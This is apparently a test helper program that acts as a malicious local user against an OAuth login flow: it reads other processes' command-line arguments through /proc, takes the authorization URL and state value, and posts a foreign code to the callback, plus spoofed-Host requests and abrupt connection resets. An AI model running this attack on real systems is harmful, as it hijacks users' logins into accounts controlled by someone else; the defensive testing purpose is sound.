/** A program of another user, who wants a login to end with an account of its own. */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';
import { join } from 'node:path';
import { barrier, readTask } from '@oa-internal/testing/child';

/** How the program leaves a connection without waiting for the answer. */
export type Leaving = 'close' | 'reset';

/**
 * What the program does: reads the arguments of `browser` and goes on from there; or requests a URL, at `address` instead of its host;
 * or connects, sends its request when `go` is in the directory, leaves, and writes `left`.
 */
export type AttackTask =
  | { browser: string }
  | { url: string; address?: string }
  | { url: string; leaving: Leaving; directory: string };

const task = readTask() as AttackTask;
if ('browser' in task) await takeLogin(task.browser);
else if ('leaving' in task) await sendAndLeave(new URL(task.url), task.leaving, task.directory);
else report('STATUS', await requestStatus(new URL(task.url), task.address));

/** Uses whatever the arguments of the browser reveal, and delivers the code of another account. */
async function takeLogin(browser: string): Promise<void> {
  const found = await findArguments(browser);
  report('ARGUMENTS', found);
  let url = new URL(found.at(-1) ?? '');
  if (!url.searchParams.has('state')) {
    const response = await fetch(url, { redirect: 'manual' });
    report('STATUS', response.status);
    url = new URL(response.headers.get('location') ?? '', url);
  }
  const callback = new URL(url.searchParams.get('redirect_uri') ?? url);
  callback.search = String(new URLSearchParams({ code: 'foreign', state: url.searchParams.get('state') ?? '' }));
  report('STATUS', (await fetch(callback)).status);
}

/** Every user can read the arguments of every process, where /proc is not mounted with `hidepid`. */
async function findArguments(program: string): Promise<string[]> {
  for (;;) {
    for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
      const words = readArguments(pid);
      if (words.includes(program)) return words.slice(words.indexOf(program) + 1);
    }
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
}

function readArguments(pid: string): string[] {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').slice(0, -1);
  } catch {
    // The process has ended.
    return [];
  }
}

function requestStatus(url: URL, address = url.hostname.replace(/^\[(.*)\]$/, '$1')): Promise<number | undefined> {
  return new Promise((resolve, reject) => {
    const sent = request(url, { host: address, headers: { host: url.host } }, (response) => {
      response.resume();
      resolve(response.statusCode);
    });
    sent.once('error', reject).end();
  });
}

async function sendAndLeave(
  { port, hostname, host, pathname, search }: URL,
  leaving: Leaving,
  directory: string,
): Promise<void> {
  const socket = connect(Number(port), hostname);
  await new Promise((resolve) => socket.once('connect', resolve));
  process.stdout.write('CONNECTED\n');
  await barrier(join(directory, 'go'));
  await new Promise((resolve) => socket.write(`GET ${pathname}${search} HTTP/1.1\r\nHost: ${host}\r\n\r\n`, resolve));
  const closed = new Promise((resolve) => socket.once('close', resolve));
  if (leaving === 'close') socket.destroy();
  else socket.resetAndDestroy();
  await closed;
  writeFileSync(join(directory, 'left'), '');
}

function report(name: string, value: unknown): void {
  process.stdout.write(`${name} ${JSON.stringify(value)}\n`);
}
